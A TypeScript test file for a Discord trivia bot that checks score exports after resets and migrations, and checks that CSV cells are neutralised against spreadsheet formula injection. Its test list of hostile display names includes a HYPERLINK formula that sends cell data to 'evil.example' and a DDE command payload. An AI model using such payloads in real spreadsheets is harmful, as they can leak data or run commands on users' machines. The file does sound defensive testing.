// What a teacher exports, on SQLite and on PostgreSQL: the scores agree with the leaderboard and
// /trivia stats after a reset (migration 7 closes the answers a reset removed), also for answers
// given before the migration; and every cell a user or a set controls is kept from running as a
// formula in a spreadsheet (CSV injection), reversibly.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { COMMANDS, COMPONENTS } from "../commands/index.js";
import { Router } from "../src/interactions/router.js";
import { createTrivia, showingMessenger } from "../src/interactions/trivia.js";
import type { BotResponse, Caller, MessagePayload, OptionValue } from "../src/interactions/types.js";
import { csvLine, neutralise, parseCsv, unneutralise, verbatim } from "../src/question-sets/csv.js";
import { SQLITE_MIGRATIONS } from "../src/storage/migrations-sqlite.js";
import type { Storage } from "../src/storage/sql.js";
import { questionById } from "../src/trivia/questions.js";
import { PlayerRecords } from "../src/trivia/records.js";
import { TriviaStore } from "../src/trivia/store.js";
import { engine, FakeClock } from "./helpers.js";
import { freshDatabases, KINDS, openAt, postgresAvailable } from "./support/databases.js";

const ds = engine().dataset;
const GUILD = "900000000000000001";
const LATEST = SQLITE_MIGRATIONS.length;
const T0 = 1_800_000_000_000;

const fresh = freshDatabases();

const caller = (userId: string, extra: Partial<Caller> = {}): Caller => ({
  userId,
  guildId: GUILD,
  channelId: "800000000000000001",
  locale: "en-US",
  canManageGuild: false,
  ...extra,
});

const payloadOf = async (r: BotResponse | Promise<BotResponse>): Promise<MessagePayload> => {
  const response = await r;
  if (response.type === "choices" || response.type === "modal") throw new Error("expected a message");
  return response.payload;
};
const buttonsOf = (p: MessagePayload) =>
  (p.components?.[0]?.components ?? []).map((c) => ("custom_id" in c ? c.custom_id : ""));

/** Trivia as users reach it, through the router, on a database of either kind. */
function game(storage: Storage) {
  const clock = new FakeClock();
  const store = new TriviaStore(storage.sql);
  const trivia = createTrivia(
    ds,
    storage.sql,
    showingMessenger(() => {}),
    { clock, seedFor: () => 42 },
  );
  const router = new Router({ ...engine(), trivia }, COMMANDS, COMPONENTS);
  const command = (
    who: Caller,
    name: string,
    subcommand?: string,
    options: Record<string, OptionValue> = {},
  ) =>
    payloadOf(
      router.handle({
        type: "command",
        command: name,
        ...(subcommand ? { subcommand } : {}),
        options,
        caller: who,
      }),
    );
  const click = (who: Caller, customId: string) =>
    payloadOf(router.handle({ type: "component", customId, values: [], caller: who }));

  /** A one-question round: each player answers, right or wrong, then time runs out. */
  async function round(starter: Caller, answers: [Caller, boolean][]) {
    const start = await command(starter, "trivia", "start", { questions: 1, seconds: 20 });
    const askedId = Number(buttonsOf(start)[0]?.split("|")[2]);
    const asked = await store.asked(askedId);
    const q = questionById(ds, asked?.question_id ?? "");
    if (!q) throw new Error("no question");
    for (const [who, right] of answers) {
      await clock.advance(1000);
      const choice = right ? q.answer : (q.answer + 1) % q.choices.length;
      expect((await click(who, `v1|ta|${askedId}|${choice}`)).content).toMatch(/Locked in/);
    }
    await clock.advance(20_000);
  }

  /** Everything a server sees of its scores: the leaderboard, each player's stats, the export. */
  async function views(players: Caller[], teacher: Caller, scope: "server" | "global" = "server") {
    const board = await command(teacher, "leaderboard", undefined, { scope });
    const leaderboard = new Map(
      [...(board.embeds?.[0]?.description ?? "").matchAll(/<@(\d+)> — (\d+) points/g)].map((m) => [
        m[1] as string,
        Number(m[2]),
      ]),
    );
    const stats = new Map<string, { points: number; correct: number; answered: number }>();
    if (scope === "server")
      for (const p of players) {
        const shown = await command(teacher, "trivia", "stats", { user: p.userId });
        const fields = shown.embeds?.[0]?.fields ?? [];
        const accuracy = /\((\d+)\/(\d+)\)/.exec(fields[1]?.value ?? "");
        if (fields.length)
          stats.set(p.userId, {
            points: Number(fields[0]?.value),
            correct: Number(accuracy?.[1]),
            answered: Number(accuracy?.[2]),
          });
      }
    const exported = await command(teacher, "trivia", "export", { scope });
    const csv = new TextDecoder().decode(exported.files?.[0]?.data ?? new Uint8Array());
    const parsed = parseCsv(csv);
    const rows = parsed.ok ? parsed.records.slice(1).map((r) => r.fields) : [];
    const exportedRows = new Map(
      rows.map((f) => [
        f[0] as string,
        { name: f[1] as string, answered: Number(f[2]), correct: Number(f[3]), points: Number(f[5]) },
      ]),
    );
    return { leaderboard, stats, exported: exportedRows, csv, exportedText: exported.content ?? "" };
  }

  return { clock, store, command, click, round, views };
}

for (const kind of KINDS) {
  describe.skipIf(kind === "postgres" && !postgresAvailable())(`exports on ${kind}`, () => {
    it("after a reset, the leaderboard, /trivia stats and the export agree (answer, reset, answer again)", async () => {
      const { storage } = await fresh(kind, "reset");
      const g = game(storage);
      const teacher = caller("31", { canManageGuild: true, displayName: "Ms. Teacher" });
      const anna = caller("32", { displayName: "Anna" });
      const boris = caller("33", { displayName: "Boris" });
      const vera = caller("34", { displayName: "Vera" });

      // Before the reset: several rounds, so the old totals are far from the new ones.
      for (let i = 0; i < 3; i++)
        await g.round(teacher, [
          [anna, true],
          [boris, i % 2 === 0],
          [vera, true],
        ]);
      const before = await g.views([anna, boris, vera], teacher);
      expect(before.exported.get("32")?.answered).toBe(3);
      expect(before.leaderboard.get("32")).toBe(before.exported.get("32")?.points);

      const prompt = await g.command(teacher, "trivia", "reset");
      const [confirm] = buttonsOf(prompt);
      expect((await g.click(teacher, confirm as string)).content).toMatch(/The leaderboard was reset/);
      const emptied = await g.views([anna, boris, vera], teacher);
      expect(emptied.leaderboard.size).toBe(0);
      expect(emptied.stats.size).toBe(0);
      expect(emptied.exported.size).toBe(0);
      expect(emptied.exportedText).toMatch(/nothing to export/);

      // After it: Anna and Boris play again; Vera does not.
      await g.round(teacher, [
        [anna, true],
        [boris, false],
      ]);
      await g.round(teacher, [[anna, false]]);
      const after = await g.views([anna, boris, vera], teacher);
      expect([...after.exported.keys()].sort()).toEqual(["32", "33"]);
      expect([...after.leaderboard.keys()].sort()).toEqual(["32", "33"]);
      expect([...after.stats.keys()].sort()).toEqual(["32", "33"]);
      for (const id of ["32", "33"]) {
        const row = after.exported.get(id);
        const stats = after.stats.get(id);
        expect(row?.points).toBe(after.leaderboard.get(id));
        expect(row).toMatchObject({
          points: stats?.points,
          correct: stats?.correct,
          answered: stats?.answered,
        });
      }
      expect(after.exported.get("32")).toMatchObject({ name: "Anna", answered: 2, correct: 1 });
      expect(after.exported.get("33")).toMatchObject({ answered: 1, correct: 0, points: 0 });
      expect(after.exported.get("32")?.points).toBeLessThan(before.exported.get("32")?.points ?? 0);

      // Everywhere: the global leaderboard and the global export agree as well.
      const everywhere = await g.views([], teacher, "global");
      expect([...everywhere.exported].map(([id, r]) => [id, r.points])).toEqual(
        [...everywhere.leaderboard].map(([id, points]) => [id, points]),
      );
      // The answers are kept: they are closed by the reset, not deleted.
      const closed = await storage.sql.get<{ n: number | string }>(
        "SELECT COUNT(*) AS n FROM answers WHERE reset_id IS NOT NULL",
      );
      expect(Number(closed?.n)).toBe(9);
    });

    it("migration 7 closes the answers an earlier reset removed the scores of", async () => {
      const { storage, where } = await fresh(kind, "backfill", { target: 6 });
      const sql = storage.sql;
      await sql.run(
        `INSERT INTO rounds (guild_id, channel_id, starter_id, seconds, total, seed, started_at, status)
         VALUES ('g', 'c', 'u1', 20, 6, 1, ${T0}, 'finished')`,
      );
      const round = await sql.get<{ id: number }>("SELECT id FROM rounds");
      const asked: number[] = [];
      for (let i = 0; i < 6; i++) {
        await sql.run(
          "INSERT INTO asked (round_id, question_id, position, opened_at, closes_at, closed_at) VALUES (?, 'q', ?, ?, ?, ?)",
          [Number(round?.id), i, T0 + i * 30_000, T0 + i * 30_000 + 20_000, T0 + i * 30_000 + 20_000],
        );
        asked.push(Number((await sql.get<{ id: number }>("SELECT MAX(id) AS id FROM asked"))?.id));
      }
      const answer = (i: number, user: string, guild: string, points: number) =>
        sql.run(
          "INSERT INTO answers (asked_id, user_id, guild_id, choice, correct, points, answered_at) VALUES (?, ?, ?, 0, ?, ?, ?)",
          [asked[i] as number, user, guild, points > 0 ? 1 : 0, points, T0 + i * 30_000 + 1000],
        );
      // In g: u1 answered 0–3, a reset removed the scores, then u1 answered 4 and 5; u2 answered
      // 0 and 1 and never again. In h, never reset, u3 answered 0 and 1.
      for (const i of [0, 1, 2, 3, 4, 5]) await answer(i, "u1", "g", 12);
      for (const i of [0, 1]) await answer(i, "u2", "g", 15);
      for (const i of [0, 1]) await answer(i, "u3", "h", i === 0 ? 10 : 0);
      await sql.run(
        "INSERT INTO scores (guild_id, user_id, points, answered, correct) VALUES ('g', 'u1', 24, 2, 2), ('h', 'u3', 10, 2, 1)",
      );
      await storage.close();

      const upgraded = fresh.keep(await openAt(kind, where));
      expect(upgraded.version).toBe(LATEST);
      const records = new PlayerRecords(upgraded.sql, ds);
      const rows = async (scope: string) => {
        const parsed = parseCsv((await records.scoresCsv(scope)).csv);
        return parsed.ok ? parsed.records.slice(1).map((r) => r.fields.slice(0, 6)) : [];
      };
      expect(await rows("g")).toEqual([["u1", "", "2", "2", "1.00", "24"]]);
      expect(await rows("h")).toEqual([["u3", "", "2", "1", "0.50", "10"]]);
      const resets = await upgraded.sql.all<{ scope: string; reset_at: number | string }>(
        "SELECT scope, reset_at FROM score_resets",
      );
      expect(resets.map((r) => [r.scope, Number(r.reset_at)])).toEqual([["g", T0 + 3 * 30_000 + 1000]]);
      const board = await new TriviaStore(upgraded.sql).leaderboard("g");
      expect(board.map((r) => [r.user_id, r.points, r.answered])).toEqual([["u1", 24, 2]]);
    });
  });
}

describe("CSV the bot writes: text cells never run as formulas", () => {
  const HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
  ];

  it("exports hostile display names as text that starts with a quote, and reads them back", async () => {
    const { storage } = await fresh("sqlite", "names");
    const g = game(storage);
    const teacher = caller("41", { canManageGuild: true });
    const players = HOSTILE_NAMES.map((name, i) => caller(String(50 + i), { displayName: name }));
    await g.round(
      teacher,
      players.map((p) => [p, true]),
    );
    const { csv } = await g.views(players, teacher);
    const parsed = parseCsv(csv);
    if (!parsed.ok) throw new Error("the export is not CSV");
    const [header, ...rows] = parsed.records;
    expect(header?.fields.slice(0, 6)).toEqual([
      "user_id",
      "display_name",
      "answered",
      "correct",
      "accuracy",
      "points",
    ]);
    const names = new Map(rows.map((r) => [r.fields[0], r.fields[1] ?? ""]));
    HOSTILE_NAMES.forEach((name, i) => {
      const cell = names.get(String(50 + i)) ?? "";
      expect(cell).toBe(`'${name}`);
      expect(unneutralise(cell)).toBe(name);
    });
    // The bot's own columns are written as they are: ids, counts, accuracy, points.
    for (const r of rows) {
      expect(r.fields[0]).toMatch(/^\d+$/);
      for (const f of [...r.fields.slice(2, 4), ...r.fields.slice(5)]) expect(f).toMatch(/^\d+$/);
      expect(r.fields[4]).toMatch(/^\d\.\d\d$/);
    }
  });

  it("writes the bot's own cells as they are and text neutralised, in one writer", () => {
    expect(
      csvLine([verbatim("-1"), -2, "-3", "=A1", "plain", "'quoted", verbatim("2026-01-01T00:00:00.000Z")]),
    ).toBe("-1,-2,'-3,'=A1,plain,''quoted,2026-01-01T00:00:00.000Z");
    expect(neutralise("Anna")).toBe("Anna");
  });

  it("for any text: the cell read back starts with none of = + - @ tab CR, and gives the text back", () => {
    const risky = fc.string({
      unit: fc.oneof(
        fc.constantFrom("=", "+", "-", "@", "\t", "\r", "\n", "'", '"', ",", " "),
        fc.string({ unit: "binary", maxLength: 2 }),
      ),
      maxLength: 30,
    });
    fc.assert(
      fc.property(fc.oneof(fc.string({ unit: "binary" }), risky), (text) => {
        const parsed = parseCsv(`${csvLine([verbatim("id"), text, 1])}\r\n`);
        expect(parsed.ok).toBe(true);
        if (!parsed.ok) return;
        expect(parsed.records).toHaveLength(1);
        const cell = parsed.records[0]?.fields[1] ?? "";
        expect(cell).not.toMatch(/^[=+\-@\t\r]/);
        expect(unneutralise(cell)).toBe(text);
        expect(parsed.records[0]?.fields[2]).toBe("1");
      }),
      { numRuns: 2000, seed: 4180 },
    );
  });
});
